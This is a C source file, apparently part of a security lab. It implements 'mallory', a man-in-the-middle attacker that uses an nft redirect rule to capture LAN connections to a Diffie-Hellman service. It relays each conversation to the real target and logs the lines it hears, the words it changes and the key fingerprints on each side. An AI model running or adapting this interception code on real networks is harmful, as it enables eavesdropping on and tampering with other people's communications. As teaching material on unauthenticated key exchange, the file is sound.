#include "dhmiddle.h"
#include "redirect.h"

#include <errno.h>
#include <jansson.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "accesspoint.h"
#include "glassnet/clock.h"

struct dhmiddle {
	const struct dhmiddle_options *opt;
	struct trace *t;
	int listener;
	struct dhmiddle_talk talk[DHMIDDLE_TALKS_MAX];
	size_t n;
	char *msg; /* 256 octets */
};

static enum err fail(struct dhmiddle *m, enum err e, const char *what)
{
	snprintf(m->msg, 256, "%s: %s", what, e == ERR_NET ? strerror(errno) : err_text(e));
	return e;
}

static enum err open_listener(struct dhmiddle *m, const struct ip *self)
{
	return redirect_listen(self, DHMIDDLE_OWN_PORT, &m->listener) == ERR_OK ? ERR_OK
	                                                                        : fail(m, ERR_NET, "cannot listen");
}

static bool serve(void *ctx, int fd, const struct endpoint *from, const struct endpoint *to)
{
	struct dhmiddle *m = ctx;
	struct dhmiddle_talk *talk = &m->talk[m->n++];
	char victim[IP_TEXT], target[IP_TEXT];
	int target_fd = -1;

	*talk = (struct dhmiddle_talk){.end = "unreachable"};
	ip_text(victim, &from->ip);
	ip_text(target, &to->ip);
	ev_decision(m->t, "taken", NULL, "%s wants to talk to %s; mallory answers, and calls %s itself", victim,
	    target, target);
	if (dial(to, deadline_in(m->opt->limit_ns, m->opt->stop_fd), &target_fd) == ERR_OK) {
		dhmiddle_relay(m->opt, m->t, fd, victim, target_fd, target, talk);
		close(target_fd);
	} else {
		ev_decision(m->t, "unreachable", NULL, "%s does not answer", target);
	}
	return m->n < DHMIDDLE_TALKS_MAX;
}

/* --- what came of it --- */

static json_t *talk_json(const struct dhmiddle_talk *k)
{
	json_t *heard = json_array();

	for (size_t i = 0; i < k->n_heard; i++)
		json_array_append_new(heard, json_string(k->heard[i]));
	return json_pack("{s:s, s:s, s:s, s:I, s:I, s:o}", "end", k->end, "fingerprint_with_victim",
	    k->fingerprint[0], "fingerprint_with_target", k->fingerprint[1], "lines", (json_int_t)k->lines, "changed",
	    (json_int_t)k->changed, "heard", heard);
}

static enum err emit_result(struct dhmiddle *m)
{
	json_t *all = json_array();
	size_t lines = 0, changed = 0;

	for (size_t i = 0; i < m->n; i++) {
		json_array_append_new(all, talk_json(&m->talk[i]));
		lines += m->talk[i].lines;
		changed += m->talk[i].changed;
	}
	json_t *o = json_pack("{s:o}", "conversations", all);
	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
	json_decref(o);
	enum err e = lines > 0 ? ERR_OK : ERR_NEGATIVE;
	ev_result(m->t, e, data,
	    "mallory was in the middle of %zu conversation%s; lines heard: %zu, words changed: %zu", m->n,
	    m->n == 1 ? "" : "s", lines, changed);
	if (data)
		sodium_memzero(data, strlen(data));
	free(data);
	return e;
}

enum err dhmiddle_run(const struct dhmiddle_options *opt, struct trace *t, char msg[static 256])
{
	struct dhmiddle *m = calloc(1, sizeof(*m));
	struct lan lan;
	enum err e = m && sodium_init() >= 0 ? ERR_OK : ERR_NOMEM;

	snprintf(msg, 256, "out of memory");
	if (e != ERR_OK) {
		free(m);
		return e;
	}
	*m = (struct dhmiddle){.opt = opt, .t = t, .listener = -1, .msg = msg};
	if (lan_find(&lan) != ERR_OK)
		e = fail(m, ERR_UNSUPPORTED, "this host has no LAN beside its way out: is this the lab's mallory?");
	if (e == ERR_OK)
		e = open_listener(m, &lan.self);
	if (e == ERR_OK && (e = redirect_start("mallory_dh", lan.ifname, DHMIDDLE_PORT, DHMIDDLE_OWN_PORT)) != ERR_OK)
		e = fail(m, e, "nft does not take the rule that turns connections round");
	if (e == ERR_OK) {
		ev_decision(t, "ready", NULL,
		    "whoever on %s calls port %d of anybody reaches mallory: an nft rule of this router "
		    "turns it round",
		    lan.ifname, DHMIDDLE_PORT);
		trace_flush(t);
		redirect_take(m->listener, DHMIDDLE_PORT, m->opt->stop_fd, serve, m);
		redirect_end("mallory_dh");
		e = emit_result(m);
	}
	if (m->listener >= 0)
		close(m->listener);
	sodium_memzero(m, sizeof(*m));
	free(m);
	return e;
}
